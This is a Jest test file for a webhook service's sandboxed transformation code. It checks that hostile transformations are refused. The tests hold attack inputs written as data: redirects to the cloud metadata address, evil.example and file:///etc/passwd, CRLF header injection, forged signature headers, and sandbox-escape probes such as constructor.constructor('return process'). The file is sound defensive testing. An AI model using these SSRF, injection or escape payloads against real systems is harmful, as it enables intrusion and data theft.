import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { AttemptFact } from '@signpost/contracts';
import { checkSignature, newId, type Endpoint } from '@signpost/domain';
import { HOSTILE_CODE } from '../../../libs/transformation/src/hostile-code.fixture.js';
import { Scene } from './scene.js';

const changing = (body: string): string => `function handler(webhook) { ${body}\nreturn webhook; }`;

/** Nothing is sent, and the attempt says why: what the code does, itself, and what of the reason names it. */
const REFUSED: readonly (readonly [string, string, RegExp])[] = [
  ['another host', `webhook.url = 'http://169.254.169.254/latest/meta-data';`, /where the endpoint is/],
  ['another host without a scheme', `webhook.url = '//evil.example/in';`, /where the endpoint is/],
  ['another host behind backslashes', String.raw`webhook.url = '\\\\evil.example\\in';`, /where the endpoint is/],
  ['another host behind a tab', String.raw`webhook.url = '\t//evil.example/in';`, /where the endpoint is/],
  ['another port', `webhook.url = webhook.url.replace(/:\\d+/, ':1');`, /where the endpoint is/],
  ['another scheme', `webhook.url = webhook.url.replace('http:', 'https:');`, /where the endpoint is/],
  ['a file', `webhook.url = 'file:///etc/passwd';`, /where the endpoint is/],
  ['a user in front of the host', `webhook.url = webhook.url.replace('//', '//user:word@');`, /where the endpoint is/],
  ['the host as a user', `webhook.url = webhook.url.replace(/:(\\d+)/, ':$1@evil.example');`, /where the endpoint is/],
  ['a URL that is none', `webhook.url = { toString: () => 'http://evil.example/' };`, /has to be a URL/],
  ['a header with a line break', String.raw`webhook.headers['x-a'] = 'b\r\nx-injected: 1';`, /cannot carry/],
  ['a name with a line break', String.raw`webhook.headers['x-a: b\r\nx-injected'] = '1';`, /no header name/],
  ['a value that is no text', `webhook.headers['x-a'] = { toString: () => 'b' };`, /no text/],
  ['Host', `webhook.headers.Host = 'evil.example';`, /belongs to the connection/],
  ['Content-Length', `webhook.headers['Content-Length'] = '1';`, /belongs to the connection/],
  ['Transfer-Encoding', `webhook.headers['TRANSFER-encoding'] = 'chunked';`, /belongs to the connection/],
  ['Content-Encoding', `webhook.headers['content-encoding'] = 'gzip';`, /describes the body/],
  ['webhook-signature', `webhook.headers['Webhook-Signature'] = 'v1,forged';`, /when it signs/],
  ['webhook-id', `webhook.headers['webhook-id'] = 'msg_forged';`, /when it signs/],
  ['webhook-timestamp', `webhook.headers['webhook-timestamp'] = '0';`, /when it signs/],
  ['svix-signature', `webhook.headers['svix-signature'] = 'v1,forged';`, /when it signs/],
  ['a content type with a line break', String.raw`webhook.headers['content-type'] = 'a/b\r\nx: 1';`, /media type/],
  ['CONNECT', `webhook.method = 'CONNECT';`, /"POST" and "PUT"/],
  ['GET in an object', `webhook.method = { toString: () => 'GET' };`, /"POST" and "PUT"/],
  ['a promise that never ends', `return new Promise(() => undefined);`, /promise/],
  ['what only looks like a promise', `return { then() {} };`, /promise/],
];

/** What a sandbox holds of the world: each is looked for, by its name and by the usual ways out. */
const ESCAPES = [
  'typeof process',
  'typeof require',
  'typeof fetch',
  'typeof setTimeout',
  'typeof setInterval',
  'typeof queueMicrotask',
  'typeof XMLHttpRequest',
  'typeof WebAssembly',
  'typeof std',
  'typeof os',
  `typeof Function('return this')().process`,
  `typeof (0, eval)('this').process`,
  `typeof webhook.constructor.constructor('return process')`,
];

describe('hostile transformations, each of an endpoint of one application', () => {
  let scene: Scene;
  let secrets: Server;
  let asked = 0;
  const applicationId = newId('app', Date.now());
  const transforming = (code: string): Partial<Endpoint> => ({
    transformation: { version: 7, sealedCode: scene.seal(code) },
  });
  const attemptsOf = ({ id }: Endpoint): readonly AttemptFact[] =>
    scene.facts.flatMap((fact) => (fact.kind === 'attempt' && fact.endpointId === id ? [fact] : []));
  const first = async (endpoint: Endpoint): Promise<AttemptFact | undefined> => {
    await scene.until('its attempt', () => attemptsOf(endpoint).length > 0);
    return attemptsOf(endpoint)[0];
  };

  beforeAll(async () => {
    // Where hostile code would like to get.
    secrets = createServer((socket) => {
      asked += 1;
      socket.destroy();
    });
    await new Promise<void>((listening) => secrets.listen(0, '127.0.0.1', listening));
    scene = await Scene.open({ TRANSFORMATION_WORKERS: '2', TRANSFORMATION_CPU_MS: '100' });
    await scene.start();
  });
  afterAll(async () => {
    await scene.close();
    secrets.close();
  });

  it('end as attempts that name the fault, and send nothing, while another application gets what it is owed', async () => {
    const hostile = await Promise.all(
      HOSTILE_CODE.map(async ([what, code, fault], number) => {
        const path = `/hostile-${String(number)}`;
        const endpoint = await scene.endpoint(path, { applicationId, ...transforming(code) });
        return { what, path, fault, endpoint };
      }),
    );
    const plain = await scene.endpoint('/plain');
    const made = await scene.endpoint('/made', transforming(changing('webhook.payload.seen = true;')));
    await Promise.all(hostile.map(({ endpoint }) => scene.deliver(endpoint)));
    await Promise.all([scene.deliver(plain, 100), scene.deliver(made, 100)]);
    await scene.until('the others', () => scene.arrivals('/plain').size + scene.arrivals('/made').size === 200);
    for (const { what, path, fault, endpoint } of hostile) {
      const attempt = await first(endpoint);
      expect([what, attempt]).toMatchObject([
        what,
        {
          outcome: 'failed',
          reason: `transformation:${fault}`,
          responseBody: expect.stringContaining('Nothing was sent: version 7 of the transformation failed.'),
          transformation: 7,
        },
      ]);
      expect(attempt).not.toHaveProperty('status');
      expect([what, scene.arrivals(path).size]).toEqual([what, 0]);
    }
  }, 240_000);

  it.each(REFUSED)('may not make a request with %s', async (_, body, why) => {
    const endpoint = await scene.endpoint('/refused', { applicationId, ...transforming(changing(body)) });
    await scene.deliver(endpoint);
    const attempt = await first(endpoint);
    expect(attempt).toMatchObject({ reason: 'transformation:returned', responseBody: expect.stringMatching(why) });
    expect(scene.arrivals('/refused').size).toBe(0);
  });

  it('reach no other host by what looks like a path', async () => {
    const { port } = secrets.address() as AddressInfo;
    const code = changing(`
      const paths = ['//127.0.0.1:${String(port)}/in', '/..//127.0.0.1:${String(port)}/', '/@127.0.0.1:${String(port)}/', '/%0d%0aHost:%20evil.example/'];
      const origin = webhook.url.slice(0, webhook.url.indexOf('/', 8));
      webhook.url = origin + paths[webhook.payload.data.number];`);
    const endpoint = await scene.endpoint('/start', { applicationId, ...transforming(code) });
    await scene.deliver(endpoint, 4);
    await scene.until('all four', () => attemptsOf(endpoint).length === 4);
    const own = new URL(endpoint.url).host;
    for (const attempt of attemptsOf(endpoint)) {
      expect(attempt).toMatchObject({ outcome: 'delivered' });
      expect(new URL(attempt.url).host).toBe(own);
    }
    const wayward = scene.receiver.requests.filter(({ path }) => path.includes(String(port)) || path.includes('%0d'));
    expect(wayward).toHaveLength(4);
    for (const { headers } of wayward) expect(headers.host).toBe(own);
    expect(asked).toBe(0);
  });

  it('find nothing of the world, and nothing of the run before', async () => {
    const code = changing(`
      const escapes = ${JSON.stringify(ESCAPES)};
      const found = escapes.filter((one) => { try { return !/^(undefined|function)$/.test(eval(one)); } catch { return false; } });
      const known = escapes.filter((one) => !one.includes('constructor'))
        .filter((one) => { try { return eval(one) !== 'undefined'; } catch { return false; } });
      webhook.payload = { found, known, seen: globalThis.seen ?? 0, odd: ({}).odd ?? 0, list: [].odd ?? 0 };
      globalThis.seen = 1;
      Object.prototype.odd = 1;
      Array.prototype.odd = 1;`);
    const endpoint = await scene.endpoint('/world', { applicationId, ...transforming(code) });
    await scene.deliver(endpoint, 6);
    const requests = await scene.receiver.received(6, '/world');
    for (const { body } of requests) {
      expect(JSON.parse(body.toString())).toEqual({ found: [], known: [], seen: 0, odd: 0, list: 0 });
    }
    // Nor does it leave anything in the process that runs it.
    expect({}).not.toHaveProperty('odd');
  });

  it('end by the time that their built-in functions take, or make what is sent, but never hold up the others', async () => {
    const importing = await scene.endpoint('/importing', {
      applicationId,
      ...transforming(changing(`return import('node:fs').then(() => webhook);`)),
    });
    await scene.deliver(importing);
    expect(await first(importing)).toMatchObject({ reason: 'transformation:returned' });
    // What it begins and does not wait for is never gone on with.
    const later = await scene.endpoint('/later', {
      applicationId,
      ...transforming(changing(`Promise.resolve().then(() => { for (;;); }); webhook.payload = 'now';`)),
    });
    const [delivery] = await scene.deliver(later);
    const [request] = await scene.receiver.received(1, '/later');
    expect(request?.body.toString()).toBe('now');
    expect(request?.headers['webhook-id']).toBe(delivery?.messageId);
    const signed = {
      headers: (request?.headers ?? {}) as Record<string, string>,
      body: request?.body ?? Buffer.alloc(0),
    };
    expect(checkSignature(signed, later.secret, Date.now())).toMatchObject({ isValid: true });
  });

  it('may not become larger than a request may be', async () => {
    const endpoint = await scene.endpoint('/large', {
      applicationId,
      ...transforming(changing(`webhook.payload = 'ü'.repeat(300000);`)),
    });
    await scene.deliver(endpoint);
    expect(await first(endpoint)).toMatchObject({ reason: 'transformation:too-large' });
    const largest = await scene.endpoint('/largest', {
      applicationId,
      ...transforming(changing(`webhook.payload = 'x'.repeat(524288);`)),
    });
    await scene.deliver(largest);
    const [request] = await scene.receiver.received(1, '/largest');
    expect(request?.body).toHaveLength(524_288);
  });
});
